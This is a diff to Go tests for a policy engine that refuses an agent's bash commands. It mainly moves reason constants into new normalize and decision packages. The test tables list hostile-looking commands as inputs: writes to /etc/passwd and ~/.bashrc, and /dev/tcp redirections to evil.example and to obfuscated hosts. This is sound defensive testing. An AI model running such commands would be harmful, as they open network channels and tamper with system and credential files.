@@ -7,7 +7,9 @@ import (
 	"strings"
 	"testing"
 
+	"polc.dev/polc/decision"
 	"polc.dev/polc/executor"
+	"polc.dev/polc/normalize"
 )
 
 // TestShellRedirectionsAreFacets: bash opens a redirection's file itself,
@@ -47,31 +49,31 @@ func TestShellRedirectionsAreFacets(t *testing.T) {
 		`echo x > '/etc/'"passwd"`:       "not_allowed:path_write",
 		`f() { echo x > /etc/x; }; echo`: "not_allowed:path_write",
 		`echo $(echo > /etc/x)`:          "not_allowed:path_write",
-		`echo x > ../escape`:             executor.ReasonPathEscape,
+		`echo x > ../escape`:             normalize.ReasonPathEscape,
 		`cat < /dev/tcp/evil.example/80`: "not_allowed:host",
 		`exec 3<>/dev/udp/10.0.0.1/53`:   "not_allowed:host",
 		`echo > /dev/tcp/GitHub.com/80`:  "not_allowed:host",
 		// Targets known only at run time, and relative ones after a
 		// directory change: refused.
-		`f=/etc/x; echo > "$f"`:               executor.ReasonInvalidCommand,
-		`echo > /etc/pass*`:                   executor.ReasonInvalidCommand,
-		`echo > /etc/pass{w..w}d`:             executor.ReasonInvalidCommand,
-		`echo > ~/.bashrc`:                    executor.ReasonInvalidCommand,
-		`f=/etc/x; echo >& $f`:                executor.ReasonInvalidCommand,
-		`echo > $(echo /etc/x)`:               executor.ReasonInvalidCommand,
-		`cd /etc && echo x > passwd`:          executor.ReasonInvalidCommand,
-		`command -p cd /etc; echo x > passwd`: executor.ReasonInvalidCommand,
-		`c=cd; $c /etc; echo x > passwd`:      executor.ReasonInvalidCommand,
-		`echo > /dev/tcp/github.com/https`:    executor.ReasonInvalidCommand,
-		`echo > /dev/tcp/git%68ub.com/443`:    executor.ReasonInvalidCommand,
-		`echo > /dev/tcp/2130706433/80`:       executor.ReasonInvalidCommand,
-		`echo > /dev/tcp/[::1]/80`:            executor.ReasonInvalidCommand,
+		`f=/etc/x; echo > "$f"`:               normalize.ReasonInvalidCommand,
+		`echo > /etc/pass*`:                   normalize.ReasonInvalidCommand,
+		`echo > /etc/pass{w..w}d`:             normalize.ReasonInvalidCommand,
+		`echo > ~/.bashrc`:                    normalize.ReasonInvalidCommand,
+		`f=/etc/x; echo >& $f`:                normalize.ReasonInvalidCommand,
+		`echo > $(echo /etc/x)`:               normalize.ReasonInvalidCommand,
+		`cd /etc && echo x > passwd`:          normalize.ReasonInvalidCommand,
+		`command -p cd /etc; echo x > passwd`: normalize.ReasonInvalidCommand,
+		`c=cd; $c /etc; echo x > passwd`:      normalize.ReasonInvalidCommand,
+		`echo > /dev/tcp/github.com/https`:    normalize.ReasonInvalidCommand,
+		`echo > /dev/tcp/git%68ub.com/443`:    normalize.ReasonInvalidCommand,
+		`echo > /dev/tcp/2130706433/80`:       normalize.ReasonInvalidCommand,
+		`echo > /dev/tcp/[::1]/80`:            normalize.ReasonInvalidCommand,
 	})
 }
 
 // decideReasons is the normalization refusal's reason, or the decision's
 // reasons joined by commas.
-func decideReasons(t *testing.T, p *executor.Policy, action string, args map[string]any) string {
+func decideReasons(t *testing.T, p *decision.Policy, action string, args map[string]any) string {
 	t.Helper()
 	d, refused := evaluateReview(p, action, args)
 	if refused != "" {
@@ -88,7 +90,7 @@ func TestShellRedirectionFacetsExact(t *testing.T) {
 	if err := os.Mkdir(filepath.Join(ws, "out"), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	n, nerr := (&executor.Normalizer{}).Normalize(executor.ActionRequest{
+	n, nerr := (&executor.Normalizer{}).Normalize(normalize.ActionRequest{
 		Action: "bash", Principal: "agent:a", Tenant: "acme", Workspace: ws,
 		Arguments: map[string]any{"command": `cat < a <> ./out//b > out/b 2>>/tmp/log >&/tmp/log; echo > /dev/tcp/::1/80 >/dev/tcp/0:0::1/80 </dev/udp/Host.Example/53`},
 	})
@@ -117,7 +119,7 @@ func TestShellRedirectionFacetsExact(t *testing.T) {
 func TestRedirectWordOffsets(t *testing.T) {
 	cmd := "echo x > \"out/a b\" 2>&1 3>&5- <in/f; cat <<EOF >>out/'h'\n> not/a/target\nEOF\n" +
 		"(echo `echo q > out/q`) &> out/c; exec 10<in/g; echo > /dev/fd/10"
-	c, err := executor.ParseCommand(cmd)
+	c, err := normalize.ParseCommand(cmd)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -140,7 +142,7 @@ func TestRedirectWordOffsets(t *testing.T) {
 	if !slices.Equal(c.FDs, []int{1, 2, 3, 5, 10}) || c.ClosesNamedFD {
 		t.Errorf("FDs %v, ClosesNamedFD %v", c.FDs, c.ClosesNamedFD)
 	}
-	c, err = executor.ParseCommand("exec {v}>out/lock; exec {v}>&-")
+	c, err = normalize.ParseCommand("exec {v}>out/lock; exec {v}>&-")
 	if err != nil || !c.ClosesNamedFD {
 		t.Errorf("{v}>&-: %+v %v", c, err)
 	}
